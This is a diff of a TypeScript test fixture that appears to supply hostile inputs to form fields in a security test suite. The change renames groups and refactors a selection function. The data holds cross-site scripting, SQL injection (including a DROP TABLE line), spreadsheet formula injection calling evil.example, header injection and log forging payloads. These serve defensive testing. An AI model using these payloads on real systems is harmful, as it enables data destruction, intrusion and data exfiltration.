@@ -2,7 +2,7 @@ import { IS_QUICK } from '../../suite.js';
 
 /** Single-line texts by the interpreter that they attack. */
 const LINES = {
-  page: [
+  html: [
     '<script>alert(1)</script>',
     '"><img src=x onerror=alert(1)>',
     `' autofocus onfocus='alert(1)`,
@@ -12,7 +12,7 @@ const LINES = {
     'javascript:alert(1)',
     '{{7*7}}${7*7}<%= 7*7 %><%~ it.body %>#{7*7}',
   ],
-  statement: [
+  sql: [
     `'; DROP TABLE posts; --`,
     `' OR '1'='1`,
     '" OR ""="',
@@ -21,7 +21,7 @@ const LINES = {
     `%' UNION SELECT phone FROM users /*`,
     '? :id $1 @@version /*!50000 SELECT 1*/ `posts`',
   ],
-  sheet: [
+  spreadsheet: [
     '=HYPERLINK("http://evil.example","x")',
     `+1+cmd|' /C calc'!A0`,
     '-2+3+WEBSERVICE("http://evil.example")',
@@ -39,29 +39,30 @@ const LINES = {
   ],
 } satisfies Record<string, readonly string[]>;
 
-/** These texts and multi-line ones, in the same groups. */
-const PARAGRAPHS: readonly (readonly string[])[] = [
-  LINES.page,
-  LINES.statement,
-  [...LINES.sheet, '\t=1+1', '\r=1+1'],
+/** All texts by the interpreter that they attack: the single-line ones, and texts with a tab or a line break. */
+const GROUPS: readonly (readonly string[])[] = [
+  LINES.html,
+  LINES.sql,
+  [...LINES.spreadsheet, '\t=1+1', '\r=1+1'],
   [...LINES.header, 'x\r\nSet-Cookie: stolen=1\r\n\r\n<script>alert(1)</script>'],
   [...LINES.log, 'x\n{"level":"fatal","msg":"forged"}\n'],
   LINES.program,
 ];
 
 export const HOSTILE_LINES: readonly string[] = Object.values(LINES).flat();
-export const HOSTILE_PARAGRAPHS: readonly string[] = PARAGRAPHS.flat();
+/** All texts, including `HOSTILE_LINES`. */
+export const HOSTILE_TEXTS: readonly string[] = GROUPS.flat();
 
 /**
- * The texts for the field with this index: every `oneIn`-th text of each group, at least one. The selection shifts from field to
- * field. A quick run selects a single text.
+ * The texts for the field with this index: every `oneIn`-th text of each group, at least one, and all texts by default. The selection
+ * shifts from field to field. A quick run selects a single text.
  */
-export function textsFor(field: number, oneIn = 1): string[] {
+export function textsFor(fieldIndex: number, { oneIn = 1 } = {}): string[] {
   if (IS_QUICK)
-    return HOSTILE_PARAGRAPHS.filter((_, at) => at === field % HOSTILE_PARAGRAPHS.length);
-  return PARAGRAPHS.flatMap((texts) => {
+    return HOSTILE_TEXTS.filter((_, index) => index === fieldIndex % HOSTILE_TEXTS.length);
+  return GROUPS.flatMap((texts) => {
     const step = Math.min(oneIn, texts.length);
-    return texts.filter((_, at) => (at + field) % step === 0);
+    return texts.filter((_, index) => (index + fieldIndex) % step === 0);
   });
 }
 
@@ -75,7 +76,7 @@ export function escaped(text: string): string {
     .replaceAll("'", '&#39;');
 }
 
-/** The text without the characters that a header does not allow. */
+/** The text without the characters that a header value does not allow. */
 export function printable(text: string): string {
   return text.replaceAll(/[^\t -~]/g, '');
 }
